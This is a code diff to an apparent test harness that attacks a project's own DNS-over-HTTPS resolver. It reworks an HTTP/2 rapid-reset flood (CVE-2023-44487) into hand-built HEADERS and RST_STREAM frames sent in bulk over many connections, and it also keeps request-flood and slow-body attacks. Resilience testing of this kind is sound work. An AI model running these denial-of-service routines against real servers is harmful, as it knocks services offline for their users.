@@ -1,14 +1,20 @@
 /** Attacks by DNS over HTTPS. */
-import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
+import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
 import { connect as connectTls } from 'node:tls';
 import { connect as connectTcp } from 'node:net';
 import { encodeQuery } from '../../deployment/dns-message.js';
 import { ATTACKER, POPULAR_ZONE, SERVER } from '../shared/target.js';
 import { type Attack, type AttackContext, pace } from './attack.js';
+import { frame, openSession, POST } from './http2-frames.js';
 
 const SESSIONS = 20;
 const REQUESTS_PER_SECOND = 1_500;
-const RESETS_PER_SECOND = 2_000;
+/** Fewer than `CLIENT_TLS_HANDSHAKE_RATE`. */
+const RESET_CONNECTIONS_PER_SECOND = 40;
+/** As many as come in few reads. */
+const RESETS = 600;
+const [HEADERS_FRAME, RST_STREAM, END_HEADERS] = [1, 3, 4];
+const CANCEL = Buffer.from([0, 0, 0, 8]);
 const SLOW_REQUESTS_PER_SECOND = 300;
 const SLOW_BYTE_MS = 400;
 const HEADERS = { ':path': '/dns-query', 'content-type': 'application/dns-message' };
@@ -22,14 +28,24 @@ export const requests: Attack = (context) =>
     return stream;
   });
 
-/** Requests that are reset at once (CVE-2023-44487). */
-export const resets: Attack = (context) =>
-  overSessions(context, RESETS_PER_SECOND, (session, n) => {
-    const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
-    const stream = session.request({ ':path': `/dns-query?dns=${query}` });
-    stream.close(constants.NGHTTP2_CANCEL);
-    return stream;
-  });
+/** Requests that are reset at once (CVE-2023-44487), over connections that the resolver closes for it. */
+export function resetsFrom(sources: readonly string[]): Attack {
+  return async (context) => {
+    const requests = Buffer.concat(
+      Array.from({ length: RESETS }, (_, i) => [
+        frame(HEADERS_FRAME, END_HEADERS, 1 + 2 * i, POST),
+        frame(RST_STREAM, 0, 1 + 2 * i, CANCEL),
+      ]).flat(),
+    );
+    await pace(context, RESET_CONNECTIONS_PER_SECOND, (n) => {
+      const session = openSession(context, sources[n % sources.length] ?? SERVER, () => undefined);
+      session.once('secureConnect', () => context.counts.add('requests', RESETS));
+      session.write(requests);
+    });
+  };
+}
+
+export const resets = resetsFrom([ATTACKER]);
 
 /** Bodies of which a byte comes now and then. */
 export const slowBodies: Attack = (context) =>
